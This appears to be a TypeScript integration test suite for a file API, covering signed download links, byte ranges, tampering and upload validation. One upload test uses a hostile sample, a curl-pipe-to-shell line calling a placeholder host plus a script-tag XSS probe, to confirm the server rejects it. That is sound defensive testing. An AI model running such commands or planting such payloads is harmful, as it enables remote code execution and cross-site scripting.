import { createActors, startTestApp, type Actors, type TestApp } from '../helpers/app';
import { expectErrorShape } from '../helpers/http';
import { assetBytes, fileForm } from '../helpers/catalogue';
import { seedCatalogue } from '../../src/seed/catalogue';

let testApp: TestApp;
let actors: Actors;
let nowMs = Date.parse('2026-03-10T12:00:00Z');
let video: Buffer;

beforeAll(async () => {
  testApp = await startTestApp({ now: () => new Date(nowMs) });
  await seedCatalogue(testApp.app);
  actors = await createActors(testApp);
  video = await assetBytes('demo-coleta-segura.mp4');
});

afterAll(() => testApp.close());

const signed = (key: string, ttl?: number) => `${testApp.url}${testApp.app.fileUrls.signedPath(key, ttl).path}`;

describe('GET /v1/files (signed links, ranges)', () => {
  test('When a byte range of the seeded video is asked for, then 206 brings exactly those bytes', async () => {
    const response = await fetch(signed('videos/demo-coleta-segura.mp4'), { headers: { range: 'bytes=1000-1999' } });
    expect(response.status).toBe(206);
    expect(response.headers.get('content-range')).toBe(`bytes 1000-1999/${video.length}`);
    expect(response.headers.get('content-type')).toBe('video/mp4');
    expect(response.headers.get('accept-ranges')).toBe('bytes');
    expect(Buffer.from(await response.arrayBuffer()).equals(video.subarray(1000, 2000))).toBe(true);
  });

  test('When open-ended and suffix ranges are asked for, then they are served as a <video> seeking would need', async () => {
    const tail = await fetch(signed('videos/demo-coleta-segura.mp4'), { headers: { range: 'bytes=-100' } });
    expect(tail.status).toBe(206);
    expect(Buffer.from(await tail.arrayBuffer()).equals(video.subarray(video.length - 100))).toBe(true);
    const from = await fetch(signed('videos/demo-coleta-segura.mp4'), { headers: { range: `bytes=${video.length - 10}-` } });
    expect(from.status).toBe(206);
    expect(Buffer.from(await from.arrayBuffer()).equals(video.subarray(video.length - 10))).toBe(true);
  });

  test('When no range is asked for, then 200 brings the whole file; outside the file is 416', async () => {
    const whole = await fetch(signed('videos/demo-coleta-segura.mp4'));
    expect(whole.status).toBe(200);
    expect(Buffer.from(await whole.arrayBuffer()).equals(video)).toBe(true);
    const outside = await testApp.call('GET', signed('videos/demo-coleta-segura.mp4'), { headers: { range: `bytes=${video.length}-` } });
    expectErrorShape(outside, 416);
    expect(outside.headers.get('content-range')).toBe(`bytes */${video.length}`);
  });

  test('When a signed link is used past its expiry, then 403 LINK_EXPIRED', async () => {
    const url = signed('videos/demo-coleta-segura.mp4', 60);
    expect((await fetch(url, { headers: { range: 'bytes=0-0' } })).status).toBe(206);
    nowMs += 61_000;
    const expired = await testApp.call('GET', url);
    expectErrorShape(expired, 403);
    expect(expired.body.code).toBe('LINK_EXPIRED');
  });

  test('When the signature, the expiry or the file name is tampered with, then 403 INVALID_SIGNATURE', async () => {
    const url = new URL(signed('videos/demo-coleta-segura.mp4'));
    const later = new URL(url);
    later.searchParams.set('expires', String(Number(url.searchParams.get('expires')) + 3600));
    const otherFile = new URL(url.href.replace('demo-coleta-segura', 'demo-calibracao-pipetas'));
    const signature = url.searchParams.get('signature')!;
    const flipped = new URL(url);
    flipped.searchParams.set('signature', `${signature[0] === 'A' ? 'B' : 'A'}${signature.slice(1)}`);
    for (const tampered of [later, otherFile, flipped]) {
      const result = await testApp.call('GET', tampered.href);
      expectErrorShape(result, 403);
      expect(result.body.code).toBe('INVALID_SIGNATURE');
    }
  });

  test('When a document is asked for without a signature, even by an admin, then 403; images are public', async () => {
    const pdf = await testApp.call('GET', '/v1/files/documents/demo-checklist-coleta.pdf', { token: actors.admin.token });
    expectErrorShape(pdf, 403);
    expect(pdf.body.code).toBe('SIGNATURE_REQUIRED');
    const image = await fetch(`${testApp.url}/v1/files/images/demo-capa-qualidade.png`);
    expect(image.status).toBe(200);
    expect(Buffer.from(await image.arrayBuffer()).equals(await assetBytes('demo-capa-qualidade.png'))).toBe(true);
    expect((await testApp.call('GET', '/v1/files/images/nao-existe.png')).status).toBe(404);
  });
});

describe('POST /v1/uploads', () => {
  const upload = (form: FormData, token = actors.admin.token) => testApp.call('POST', '/v1/uploads', { token, formData: form });

  test('When a valid PNG is uploaded, then it is stored under a random name and round-trips byte for byte', async () => {
    const png = await assetBytes('demo-capa-boas-praticas.png');
    const result = await upload(fileForm(png, 'Minha Capa.png', 'image/png'));
    expect(result.status).toBe(201);
    expect(result.body).toEqual({
      key: expect.stringMatching(/^images\/[0-9a-f]{32}\.png$/),
      kind: 'image',
      contentType: 'image/png',
      sizeBytes: png.length,
      reference: expect.stringMatching(/^\/v1\/files\/images\/[0-9a-f]{32}\.png$/),
      url: expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+\/v1\/files\/images\/[0-9a-f]{32}\.png$/),
      expiresAt: null,
    });
    const back = await fetch(result.body.url);
    expect(back.headers.get('content-type')).toBe('image/png');
    expect(Buffer.from(await back.arrayBuffer()).equals(png)).toBe(true);
    // The reference is what an item saves: a banner accepts it as its image.
    const banner = await testApp.call('POST', '/v1/banners', { token: actors.admin.token, body: { title: 'Com upload', imageUrl: result.body.reference } });
    expect(banner.status).toBe(201);
  });

  test('When a PDF and an MP4 are uploaded, then they get gated keys and a signed preview link that works', async () => {
    for (const [name, kind, folder] of [['demo-checklist-coleta.pdf', 'pdf', 'documents'], ['demo-calibracao-pipetas.mp4', 'video', 'videos']] as const) {
      const bytes = await assetBytes(name);
      const result = await upload(fileForm(bytes, name));
      expect(result.status).toBe(201);
      expect(result.body).toMatchObject({ kind, key: expect.stringMatching(new RegExp(`^${folder}/[0-9a-f]{32}\\.`)), sizeBytes: bytes.length });
      expect(result.body.reference).toBe(result.body.key);
      const back = await fetch(result.body.url);
      expect(Buffer.from(await back.arrayBuffer()).equals(bytes)).toBe(true);
      expect((await testApp.call('GET', `/v1/files/${result.body.key}`)).status).toBe(403);
    }
  });

  test('When a PNG is renamed .pdf, then 415 FILE_TYPE_MISMATCH', async () => {
    const result = await upload(fileForm(await assetBytes('demo-capa-qualidade.png'), 'relatorio.pdf', 'application/pdf'));
    expectErrorShape(result, 415);
    expect(result.body.code).toBe('FILE_TYPE_MISMATCH');
    expect(result.body.message).toContain('imagem PNG');
  });

  test('When a script is renamed .png, then 415 UNSUPPORTED_FILE_TYPE', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://exemplo.invalid | sh\n<script>alert(1)</script>\n');
    const result = await upload(fileForm(script, 'foto.png', 'image/png'));
    expectErrorShape(result, 415);
    expect(result.body.code).toBe('UNSUPPORTED_FILE_TYPE');
  });

  test('When an image is over 5 MB, then 413 FILE_TOO_LARGE', async () => {
    const png = await assetBytes('demo-capa-qualidade.png');
    const big = Buffer.concat([png, Buffer.alloc(5 * 1024 * 1024 + 1 - png.length)]);
    const result = await upload(fileForm(big, 'grande.png', 'image/png'));
    expectErrorShape(result, 413);
    expect(result.body.code).toBe('FILE_TOO_LARGE');
    expect(result.body.message).toContain('5 MB');
  });

  test('When the request is not multipart or has no file, then 4xx with the error shape; members may not upload', async () => {
    expectErrorShape(await testApp.call('POST', '/v1/uploads', { token: actors.admin.token, body: { file: 'x' } }), 415);
    const empty = new FormData();
    expectErrorShape(await upload(empty), 400);
    const member = await upload(fileForm(await assetBytes('demo-capa-qualidade.png'), 'capa.png'), actors.member.token);
    expectErrorShape(member, 403);
  });
});
